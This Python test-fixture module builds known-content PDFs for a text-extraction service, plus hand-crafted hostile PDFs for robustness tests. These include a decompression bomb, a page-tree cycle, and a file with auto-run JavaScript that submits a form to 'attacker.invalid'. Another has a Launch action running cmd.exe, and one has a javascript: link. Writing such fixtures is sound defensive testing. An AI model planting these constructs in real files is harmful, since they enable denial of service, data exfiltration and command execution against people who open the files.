"""Test PDFs with known content, made with PyMuPDF, and hostile files crafted byte by byte."""

from __future__ import annotations

import random
import zlib
from pathlib import Path

import pymupdf

A4 = (595.0, 842.0)
LINK_URL = "https://example.com/docs"
ATTACHMENT = ("notes.txt", b"attached notes, 27 bytes ok")

# the words each page of `text_pdf` carries: page N has "page N" and its own code word
PAGE_WORDS = ["alpha", "bravo", "charlie", "delta", "echo", "foxtrot", "golf", "hotel"]

BODY = (
    "The quick brown fox jumps over the lazy dog while the committee reviews the "
    "quarterly report on extraction throughput, and everyone agrees that the numbers "
    "look promising for the next release of the service."
)

# 4x3 RGB pixels, row by row: the image `image_pdf` embeds
KNOWN_PIXELS = [
    [(255, 0, 0), (0, 255, 0), (0, 0, 255), (255, 255, 255)],
    [(0, 0, 0), (128, 128, 128), (255, 255, 0), (0, 255, 255)],
    [(255, 0, 255), (10, 20, 30), (200, 100, 50), (1, 2, 3)],
]

TABLE = [
    ["Name", "Qty", "Price"],
    ["apple", "3", "1.20"],
    ["banana", "12", "0.25"],
    ["cherry", "200", "9.99"],
]


def _save(doc: pymupdf.Document, path: Path, **kwargs: object) -> Path:
    doc.save(str(path), garbage=3, deflate=True, **kwargs)
    doc.close()
    return path


def text_pdf(path: Path, pages: int = 3) -> Path:
    """`pages` pages; page N says "page N" and its code word PAGE_WORDS[N-1]."""
    doc = pymupdf.open()
    for n in range(1, pages + 1):
        page = doc.new_page(width=A4[0], height=A4[1])
        word = PAGE_WORDS[(n - 1) % len(PAGE_WORDS)]
        page.insert_text((72, 100), f"This is page {n} with the code word {word}.", fontsize=11)
    doc.set_metadata({"title": "Known Words", "author": "pdfgen"})
    return _save(doc, path)


def rich_pdf(path: Path) -> Path:
    """A small manual: title, sections, paragraphs, a list, code, a link, a table, an outline,
    an attachment and metadata."""
    doc = pymupdf.open()
    page = doc.new_page(width=A4[0], height=A4[1])
    y = 80.0
    page.insert_text((72, y), "Extraction Guide", fontsize=24, fontname="hebo")
    y += 50
    page.insert_text((72, y), "1 Getting Started", fontsize=16, fontname="hebo")
    y += 14
    page.insert_textbox((72, y, 523, y + 60), BODY, fontsize=11)
    y += 70
    page.insert_text((72, y), "Useful Options", fontsize=11, fontname="hebo")
    y += 20
    for item in ("first item of the list", "second item of the list"):
        page.insert_text((72, y), f"\u2022 {item}", fontsize=11)
        y += 15
    y += 10
    for code in ("def hello():", "    return 42"):
        page.insert_text((72, y), code, fontsize=10, fontname="cour")
        y += 13
    y += 15
    text = "See the online documentation for details."
    page.insert_text((72, y), text, fontsize=11)
    anchor = page.search_for("online documentation")[0]
    page.insert_link({"kind": pymupdf.LINK_URI, "from": anchor, "uri": LINK_URL})
    y += 40
    page.insert_text((72, y), "2 Configuration", fontsize=16, fontname="hebo")
    y += 14
    page.insert_textbox((72, y, 523, y + 60), BODY.replace("fox", "cat"), fontsize=11)

    page = doc.new_page(width=A4[0], height=A4[1])
    page.insert_text((72, 80), "3 Price Table", fontsize=16, fontname="hebo")
    page.insert_text((72, 110), "Prices below are per unit.", fontsize=11)
    draw_table(page, 72, 130, TABLE)
    page.insert_text((72, 260), "End of the price list.", fontsize=11)

    doc.set_toc(
        [
            [1, "Extraction Guide", 1],
            [2, "1 Getting Started", 1],
            [2, "2 Configuration", 1],
            [2, "3 Price Table", 2],
        ]
    )
    doc.set_metadata(
        {
            "title": "Extraction Guide",
            "author": "pdfgen",
            "subject": "testing",
            "creationDate": "D:20240102030405+01'00'",
        }
    )
    doc.embfile_add(ATTACHMENT[0], ATTACHMENT[1], filename=ATTACHMENT[0])
    return _save(doc, path)


def draw_table(
    page: pymupdf.Page, x: float, y: float, rows: list[list[str]], cell: tuple[int, int] = (90, 22)
) -> pymupdf.Rect:
    """A ruled table with text in its cells; returns its rectangle."""
    w, h = cell
    cols = len(rows[0])
    rect = pymupdf.Rect(x, y, x + cols * w, y + len(rows) * h)
    shape = page.new_shape()
    for r in range(len(rows) + 1):
        shape.draw_line((x, y + r * h), (x + cols * w, y + r * h))
    for c in range(cols + 1):
        shape.draw_line((x + c * w, y), (x + c * w, y + len(rows) * h))
    shape.finish(color=(0, 0, 0), width=0.8)
    shape.commit()
    for r, row in enumerate(rows):
        for c, value in enumerate(row):
            font = "hebo" if r == 0 else "helv"
            page.insert_text((x + c * w + 4, y + r * h + 15), value, fontsize=10, fontname=font)
    return rect


def known_pixmap() -> pymupdf.Pixmap:
    pix = pymupdf.Pixmap(pymupdf.csRGB, pymupdf.IRect(0, 0, 4, 3), False)
    for yy, row in enumerate(KNOWN_PIXELS):
        for xx, rgb in enumerate(row):
            pix.set_pixel(xx, yy, rgb)
    return pix


def jpeg_bytes() -> bytes:
    """A small JPEG (a gradient), to check that images keep their stored format."""
    pix = pymupdf.Pixmap(pymupdf.csRGB, pymupdf.IRect(0, 0, 32, 16), False)
    for yy in range(16):
        for xx in range(32):
            pix.set_pixel(xx, yy, (xx * 8, yy * 16, 128))
    data: bytes = pix.tobytes("jpeg")
    return data


def image_pdf(path: Path) -> Path:
    """Page 1: the KNOWN_PIXELS PNG (stored losslessly); page 2: a JPEG; page 3: the PNG again."""
    png = known_pixmap().tobytes("png")
    doc = pymupdf.open()
    page = doc.new_page(width=300, height=300)
    page.insert_text((20, 30), "An image with known pixels.", fontsize=11)
    page.insert_image(pymupdf.Rect(20, 50, 140, 140), stream=png)
    page = doc.new_page(width=300, height=300)
    page.insert_text((20, 30), "A photograph.", fontsize=11)
    page.insert_image(pymupdf.Rect(20, 50, 180, 130), stream=jpeg_bytes())
    page = doc.new_page(width=300, height=300)
    page.insert_text((20, 30), "The first image again.", fontsize=11)
    page.insert_image(pymupdf.Rect(20, 50, 140, 140), stream=png)
    return _save(doc, path)


def scanned_pdf(path: Path, lines: list[str], with_text_page: bool = False) -> Path:
    """A page that is only an image of text (no text layer), like a scan.

    The text is typeset on a scratch page, rendered to a pixmap, and that pixmap is the page.
    With `with_text_page`, a normal text page comes first.
    """
    scratch = pymupdf.open()
    spage = scratch.new_page(width=400, height=40 + 36 * len(lines))
    for i, line in enumerate(lines):
        spage.insert_text((20, 40 + 36 * i), line, fontsize=24)
    pix = spage.get_pixmap(dpi=200, alpha=False)
    png = pix.tobytes("png")
    rect = spage.rect
    scratch.close()
    doc = pymupdf.open()
    if with_text_page:
        page = doc.new_page(width=rect.width, height=rect.height)
        page.insert_text((20, 40), "A normal page with a text layer that needs no OCR.")
    page = doc.new_page(width=rect.width, height=rect.height)
    page.insert_image(page.rect, stream=png)
    return _save(doc, path)


def two_column_pdf(path: Path) -> Path:
    """A full-width title, then two columns: the left one must be read before the right one."""
    doc = pymupdf.open()
    page = doc.new_page(width=A4[0], height=A4[1])
    page.insert_text((72, 70), "Two Column Report", fontsize=20, fontname="hebo")
    left = " ".join(["Leftcolumn text starts here."] + [BODY] * 3)
    right = " ".join(["Rightcolumn text starts here."] + [BODY] * 3)
    page.insert_textbox((50, 100, 285, 780), left, fontsize=10)
    page.insert_textbox((310, 100, 545, 780), right, fontsize=10)
    return _save(doc, path)


def blank_pages_pdf(path: Path, pages: int) -> Path:
    """`pages` empty pages (written directly: PyMuPDF takes a second for 3000 new_page calls)."""
    kids = b" ".join(b"%d 0 R" % (n + 3) for n in range(pages))
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [" + kids + b"] /Count %d >>" % pages,
    ]
    objects += [b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>"] * pages
    path.write_bytes(raw_pdf(objects))
    return path


# PyMuPDF's PDF_PERM_* / PDF_ENCRYPT_* values (set at import time, invisible to mypy)
PERM_PRINT = 4
PERM_ACCESSIBILITY = 512
ENCRYPT_AES_256 = 5


def encrypted_pdf(path: Path, user_pw: str | None) -> Path:
    """AES-256 with an owner password; with `user_pw` a password is needed to open it."""
    doc = pymupdf.open()
    page = doc.new_page()
    page.insert_text((72, 72), "secret words inside", fontsize=11)
    permissions = PERM_ACCESSIBILITY | PERM_PRINT
    return _save(
        doc,
        path,
        encryption=ENCRYPT_AES_256,
        owner_pw="owner-secret",
        user_pw=user_pw,
        permissions=permissions,
    )


# --- raw PDFs: for what PyMuPDF would refuse to write -----------------------------------------


def raw_pdf(objects: list[bytes], root: int = 1, trailer_extra: bytes = b"") -> bytes:
    """A PDF whose objects are numbered 1..n in order, with a correct xref table."""
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    for offset in offsets:
        out += b"%010d 00000 n \n" % offset
    out += b"trailer\n<< /Size %d /Root %d 0 R %s>>\n" % (len(objects) + 1, root, trailer_extra)
    out += b"startxref\n%d\n%%%%EOF\n" % xref
    return bytes(out)


def _stream(data: bytes, extra: bytes = b"") -> bytes:
    return b"<< /Length %d %s>>\nstream\n" % (len(data), extra) + data + b"\nendstream"


def _content_page(mediabox: bytes, contents: int, resources: bytes = b"") -> bytes:
    return (
        b"<< /Type /Page /Parent 2 0 R /MediaBox "
        + mediabox
        + b" /Contents %d 0 R " % contents
        + b"/Resources << /Font << /F1 << /Type /Font /Subtype /Type1 /BaseFont /Helvetica >> >> "
        + resources
        + b">> >>"
    )


def text_content(text: str, x: int = 72, y: int = 720) -> bytes:
    return b"BT /F1 12 Tf %d %d Td (%s) Tj ET" % (x, y, text.encode("latin-1"))


def huge_mediabox_pdf(path: Path, size: int = 200_000) -> Path:
    """One page of `size` x `size` points (a 70 m square) with a line of text."""
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        _content_page(b"[0 0 %d %d]" % (size, size), 4),
        _stream(text_content("giant page words", 100, size - 100)),
    ]
    path.write_bytes(raw_pdf(objects))
    return path


def bomb_pdf(path: Path, side: int = 40_000) -> Path:
    """A tiny file whose image inflates to side x side pixels (1.6 G pixels by default).

    The 1-bit image data (all zeros) is Flate-compressed twice: about 200 MB decoded, a few
    kilobytes stored.
    """
    total = (side + 7) // 8 * side
    chunk = bytes(1 << 22)
    inner = zlib.compressobj(1)
    parts = [inner.compress(chunk) for _ in range(total // len(chunk))]
    parts.append(inner.compress(bytes(total % len(chunk))))
    parts.append(inner.flush())
    twice = zlib.compress(b"".join(parts), 9)
    image = _stream(
        twice,
        b"/Type /XObject /Subtype /Image /Width %d /Height %d /ColorSpace /DeviceGray "
        b"/BitsPerComponent 1 /Filter [/FlateDecode /FlateDecode] " % (side, side),
    )
    content = b"q 500 0 0 500 50 200 cm /Im1 Do Q " + text_content("bomb page words", 72, 760)
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        _content_page(b"[0 0 612 792]", 4, b"/XObject << /Im1 5 0 R >> "),
        _stream(content),
        image,
    ]
    path.write_bytes(raw_pdf(objects))
    return path


def actions_pdf(path: Path) -> Path:
    """JavaScript on open and in the name tree, a Launch action and a URI link: reported only."""
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R /OpenAction 5 0 R /Names << /JavaScript 6 0 R >> >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        _content_page(b"[0 0 612 792]", 4)[:-2] + b" /Annots [8 0 R 9 0 R] >>",
        _stream(text_content("actions page words")),
        b"<< /S /JavaScript /JS (app.alert\\('pwned'\\);) >>",
        b"<< /Names [(init) 7 0 R] >>",
        b"<< /S /JavaScript /JS (this.submitForm\\('https://attacker.invalid/'\\);) >>",
        b"<< /Type /Annot /Subtype /Link /Rect [72 600 300 620] /Border [0 0 0] "
        b"/A << /S /Launch /F (calc.exe) /Win << /F (cmd.exe) /P (/c calc) >> >> >>",
        b"<< /Type /Annot /Subtype /Link /Rect [72 560 300 580] /Border [0 0 0] "
        b"/A << /S /URI /URI (https://tracker.invalid/ping) >> >>",
    ]
    path.write_bytes(raw_pdf(objects))
    return path


def page_tree_cycle_pdf(path: Path) -> Path:
    """The page tree's kid points back at its parent: walking it never ends."""
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Pages /Parent 2 0 R /Kids [2 0 R] /Count 1 >>",
    ]
    path.write_bytes(raw_pdf(objects))
    return path


def broken_xref_pdf(path: Path) -> Path:
    """A valid text PDF whose xref offsets all point to the wrong place (MuPDF repairs it)."""
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        _content_page(b"[0 0 612 792]", 4),
        _stream(text_content("repaired file words")),
    ]
    data = bytearray(raw_pdf(objects))
    start = data.index(b"xref\n") + len(b"xref\n0 5\n0000000000 65535 f \n")
    for i in range(4):
        at = start + i * 20
        data[at : at + 10] = b"%010d" % (7 + i * 3)
    path.write_bytes(bytes(data))
    return path


def truncated_pdf(source: Path, path: Path, keep: float = 0.6) -> Path:
    data = source.read_bytes()
    path.write_bytes(data[: int(len(data) * keep)])
    return path


def random_bytes(path: Path, size: int = 4096, seed: int = 7) -> Path:
    path.write_bytes(random.Random(seed).randbytes(size))
    return path


def html_renamed(path: Path) -> Path:
    path.write_text("<!DOCTYPE html>\n<html><body><h1>Not a PDF</h1></body></html>\n")
    return path


def png_renamed(path: Path) -> Path:
    path.write_bytes(known_pixmap().tobytes("png"))
    return path


def manual_pdf(path: Path, pages: int = 4) -> Path:
    """Pages of a manual with a running head, page numbers, a chapter (20 pt), sections
    (14 pt), bold run-in subsections, a numbered section set apart from its title, a
    hyphenated line break, numbered list items and display code spread over two blocks."""
    doc = pymupdf.open()
    for n in range(1, pages + 1):
        page = doc.new_page(width=A4[0], height=A4[1])
        page.insert_text((72, 40), "ACME Widget Manual", fontsize=9, fontname="tiit")
        page.insert_text((290, 810), str(n), fontsize=10)
        y = 90.0
        if n == 1:
            page.insert_text((72, y), "Chapter One Overview", fontsize=20, fontname="hebo")
            y += 40
        page.insert_text((72, y), f"{n}.1 Section Heading {n}", fontsize=14, fontname="hebo")
        y += 14
        page.insert_textbox((72, y, 523, y + 60), BODY, fontsize=10)
        y += 66
        page.insert_text((72, y), f"Subsection Topic {n}", fontsize=10, fontname="hebo")
        y += 14
        page.insert_textbox((72, y, 523, y + 60), BODY, fontsize=10)
        y += 66
        # the number and its title on one baseline, far apart: two MuPDF blocks
        page.insert_text((72, y), f"{n}.2.1", fontsize=10)
        page.insert_text((130, y), f"Plain Numbered Title {n}", fontsize=10)
        y += 24
        page.insert_text((72, y), "This sentence has an extra-", fontsize=10)
        page.insert_text((72, y + 12), "ordinary word broken over two lines.", fontsize=10)
        y += 40
        for i, item in enumerate(("unpack the box", "plug it in"), start=1):
            page.insert_text((72, y), f"{i}. {item}", fontsize=10)
            y += 13
        y += 20
        page.insert_text((72, y), "widget --start", fontsize=10, fontname="cour")
        # a gap of more than a line: MuPDF starts a new block, the code goes on
        page.insert_text((72, y + 16), "widget --stop", fontsize=10, fontname="cour")
        page.insert_text((200, y + 16), "# halts it", fontsize=10, fontname="cour")
        y += 50
        page.insert_text((72, y), "# Not a heading, a line that starts with a hash.", fontsize=10)
    return _save(doc, path)


def links_pdf(path: Path) -> Path:
    """A safe link, a bare URL link, and a javascript: link that must stay plain text."""
    doc = pymupdf.open()
    page = doc.new_page(width=A4[0], height=A4[1])
    entries = [
        ("Read the handbook online today.", "handbook", "https://example.com/handbook"),
        ("Visit https://example.org/start now.", "https://example.org/start", None),
        ("Do not click this trap please.", "this trap", "javascript:alert(1)"),
    ]
    y = 100.0
    for text, anchor, uri in entries:
        page.insert_text((72, y), text, fontsize=11)
        rect = page.search_for(anchor)[0]
        page.insert_link(
            {"kind": pymupdf.LINK_URI, "from": rect, "uri": uri or "https://example.org/start"}
        )
        y += 30
    return _save(doc, path)


def broken_content_pdf(path: Path) -> Path:
    """Page 1 is fine; page 2's content stream names a missing image and never ends its text."""
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R 5 0 R] /Count 2 >>",
        _content_page(b"[0 0 612 792]", 4),
        _stream(text_content("good page words")),
        _content_page(b"[0 0 612 792]", 6),
        _stream(text_content("broken page words") + b" q /Missing Do Q BT (unterminated"),
    ]
    path.write_bytes(raw_pdf(objects))
    return path


RUNNING_HEAD = "Structured Test Manual"
HEBREW = "שלום עולם, זהו מסמך בדיקה."
FOOTNOTE = "1 A footnote that explains the details."
STRUCTURE_HEADINGS = {
    "1 Introduction": 1,
    "1.1 Scope": 2,
    "1.1.1 Details": 3,
    "2 Columns": 1,
    "3 Tables": 1,
    "4 Right to Left": 1,
    "5 Long Section": 1,
    "5.1 Many Paragraphs": 2,
}


def structured_pdf(path: Path, long_pages: int = 2) -> Path:
    """A document of known structure: headings at three levels (20, 15, 13 pt bold), a running
    head and a "Page N" footer on every page (written last, as LaTeX does), a list, a footnote
    (7 pt), a two-column page, a ruled table with a caption, a Hebrew (right-to-left)
    paragraph, and a long section of `long_pages` pages of paragraphs; the outline lists the
    level-1 and level-2 headings."""
    doc = pymupdf.open()

    def new_page() -> pymupdf.Page:
        if doc.page_count:
            footer(doc[-1])
        page = doc.new_page(width=A4[0], height=A4[1])
        page.insert_text((72, 40), RUNNING_HEAD, fontsize=9, fontname="tiit")
        return page

    def footer(page: pymupdf.Page) -> None:
        page.insert_text((270, 815), f"Page {page.number + 1}", fontsize=9)

    page = new_page()
    page.insert_text((72, 90), "1 Introduction", fontsize=20, fontname="hebo")
    page.insert_textbox((72, 105, 523, 165), BODY, fontsize=11)
    page.insert_text((72, 190), "1.1 Scope", fontsize=15, fontname="hebo")
    page.insert_textbox((72, 202, 523, 262), BODY.replace("fox", "cat"), fontsize=11)
    page.insert_text((72, 290), "1.1.1 Details", fontsize=13, fontname="hebo")
    page.insert_textbox((72, 302, 523, 362), BODY.replace("dog", "owl"), fontsize=11)
    for i, item in enumerate(("first item of the list", "second item of the list")):
        page.insert_text((72, 385 + 15 * i), f"\u2022 {item}", fontsize=11)
    page.insert_text((72, 770), FOOTNOTE, fontsize=7)

    page = new_page()
    page.insert_text((72, 90), "2 Columns", fontsize=20, fontname="hebo")
    left = " ".join(["Leftcolumn text starts here."] + [BODY] * 3)
    right = " ".join(["Rightcolumn text starts here."] + [BODY] * 3)
    page.insert_textbox((50, 110, 285, 700), left, fontsize=11)
    page.insert_textbox((310, 110, 545, 700), right, fontsize=11)

    page = new_page()
    page.insert_text((72, 90), "3 Tables", fontsize=20, fontname="hebo")
    page.insert_text((72, 120), "Prices below are per unit.", fontsize=11)
    draw_table(page, 72, 140, TABLE)
    page.insert_text((72, 250), "Table 1: Prices per unit", fontsize=11)

    page = new_page()
    page.insert_text((72, 90), "4 Right to Left", fontsize=20, fontname="hebo")
    page.insert_htmlbox((72, 110, 523, 160), f'<p dir="rtl" style="font-size:11px">{HEBREW}</p>')

    for n in range(long_pages):
        page = new_page()
        y = 90.0
        if n == 0:
            page.insert_text((72, y), "5 Long Section", fontsize=20, fontname="hebo")
            page.insert_text((72, y + 35), "5.1 Many Paragraphs", fontsize=15, fontname="hebo")
            y += 50
        while y < 700:
            page.insert_textbox((72, y, 523, y + 60), BODY, fontsize=11)
            y += 70
    footer(doc[-1])

    doc.set_toc(
        [
            [level, title, page]
            for (title, level), page in zip(
                STRUCTURE_HEADINGS.items(), (1, 1, 1, 2, 3, 4, 5, 5), strict=True
            )
            if level <= 2
        ]
    )
    return _save(doc, path)


def long_table_pdf(path: Path, rows: int = 30) -> Path:
    """A heading and one ruled table of `rows` data rows under a header row."""
    doc = pymupdf.open()
    page = doc.new_page(width=A4[0], height=A4[1])
    page.insert_text((72, 60), "Inventory", fontsize=20, fontname="hebo")
    data = [["Item", "Count", "Price"]] + [
        [f"item{i}", str(i * 3), f"{i}.50"] for i in range(1, rows + 1)
    ]
    draw_table(page, 72, 80, data, cell=(90, 20))
    return _save(doc, path)


def table_across_pages_pdf(path: Path) -> Path:
    """A ruled table at the foot of page 1 that goes on at the top of page 2 (three columns),
    then a paragraph; page numbers in the footer."""
    doc = pymupdf.open()
    page = doc.new_page(width=A4[0], height=A4[1])
    page.insert_text((72, 60), "Stock List", fontsize=20, fontname="hebo")
    page.insert_text((72, 90), "The stock at the end of the year.", fontsize=11)
    rows = [[f"part{i}", str(i * 7), f"{i}.25"] for i in range(1, 17)]
    draw_table(page, 72, 600, [["Part", "Count", "Price"], *rows[:8]], cell=(90, 20))
    page.insert_text((290, 815), "1", fontsize=9)
    page = doc.new_page(width=A4[0], height=A4[1])
    draw_table(page, 72, 60, rows[8:], cell=(90, 20))
    page.insert_text((72, 260), "Counted by hand in December.", fontsize=11)
    page.insert_text((290, 815), "2", fontsize=9)
    return _save(doc, path)


FIGURE_CAPTIONS = ("Figure 1: A known image", "Figure 2: A vector drawing")
PLAIN_TITLE = "Background of the work"
"""A title in body-size regular type: only the outline says it is a heading."""
IMAGE_BOX = (72.0, 130.0, 272.0, 280.0)
DRAWING_BOX = (72.0, 420.0, 322.0, 560.0)


def figures_pdf(path: Path) -> Path:
    """Page 1: a heading, a paragraph, an image with its caption below, a caption above a
    vector drawing (boxes and a line), a paragraph; page 2: PLAIN_TITLE in 11 pt regular, a
    paragraph, and a ruled table (text in a drawing: not a figure). The outline names "1 Figures"
    (level 1) on page 1 and PLAIN_TITLE (level 2) on page 2."""
    doc = pymupdf.open()
    page = doc.new_page(width=A4[0], height=A4[1])
    page.insert_text((72, 80), "1 Figures", fontsize=20, fontname="hebo")
    page.insert_textbox((72, 92, 523, 125), BODY, fontsize=11)
    page.insert_image(pymupdf.Rect(IMAGE_BOX), pixmap=known_pixmap())
    page.insert_text((72, 298), FIGURE_CAPTIONS[0], fontsize=10)
    page.insert_textbox((72, 320, 523, 380), BODY.replace("fox", "cat"), fontsize=11)
    page.insert_text((72, 410), FIGURE_CAPTIONS[1], fontsize=10)
    shape = page.new_shape()
    x0, y0, x1, y1 = DRAWING_BOX
    shape.draw_rect(pymupdf.Rect(x0, y0, x0 + 100, y0 + 60))
    shape.draw_rect(pymupdf.Rect(x1 - 100, y1 - 60, x1, y1))
    shape.draw_line((x0 + 100, y0 + 30), (x1 - 100, y1 - 30))
    shape.finish(color=(0, 0, 0), fill=(0.8, 0.9, 1.0), width=1)
    shape.commit()
    page.insert_text((x0 + 10, y0 + 30), "input", fontsize=9)
    page.insert_textbox((72, 590, 523, 650), BODY.replace("dog", "owl"), fontsize=11)
    page = doc.new_page(width=A4[0], height=A4[1])
    page.insert_text((72, 80), PLAIN_TITLE, fontsize=11)
    page.insert_textbox((72, 95, 523, 155), BODY.replace("fox", "hen"), fontsize=11)
    draw_table(page, 72, 180, TABLE)
    doc.set_toc([[1, "1 Figures", 1], [2, PLAIN_TITLE, 2]])
    return _save(doc, path)


PLAIN_OUTLINE = [
    (1, "Getting started", 1),
    (2, "What you need", 1),
    (3, "Installing on a laptop", 2),
    (1, "Running the service", 3),
]
"""The outline of `plain_outline_pdf` (level, title, page): titles set like the body text."""
PLAIN_DECOY = "What you need"
"""A line of page 3 alone, as a title would be: its outline entry points at page 1."""


def plain_outline_pdf(path: Path) -> Path:
    """Three pages of 11 pt regular Helvetica, titles included (no size, weight or numbering
    sets them apart): each title of PLAIN_OUTLINE on its page, alone on its line, a paragraph
    after it; page 3 also has PLAIN_DECOY alone on a line, followed by a paragraph."""
    doc = pymupdf.open()
    lines: dict[int, list[str]] = {}
    for _, title, number in PLAIN_OUTLINE:
        lines.setdefault(number, []).append(title)
    lines[3].append(PLAIN_DECOY)
    for number in (1, 2, 3):
        page = doc.new_page(width=A4[0], height=A4[1])
        y = 80
        for title in lines[number]:
            page.insert_text((72, y), title, fontsize=11)
            page.insert_textbox((72, y + 15, 523, y + 75), BODY, fontsize=11)
            y += 110
    doc.set_toc([list(item) for item in PLAIN_OUTLINE])
    return _save(doc, path)


RTL_MARKS = ("A1", "A2", "B1", "B2")
"""The paragraphs of `rtl_columns_pdf` in reading order: right column, then left."""


def rtl_columns_pdf(path: Path) -> Path:
    """One page in two right-to-left (Hebrew) columns of two paragraphs each; each paragraph
    starts with its RTL_MARKS mark (A: the right column, read first). The left column is
    written first, as a producer thinking left to right would: MuPDF's order is left first."""
    doc = pymupdf.open()
    page = doc.new_page(width=A4[0], height=A4[1])
    boxes = {
        "B1": (50, 110, 285, 390),
        "B2": (50, 420, 285, 700),
        "A1": (310, 110, 545, 390),
        "A2": (310, 420, 545, 700),
    }
    for mark, box in boxes.items():
        text = " ".join([HEBREW] * 18)
        page.insert_htmlbox(box, f'<p dir="rtl" style="font-size:11px">{mark} {text}</p>')
    return _save(doc, path)
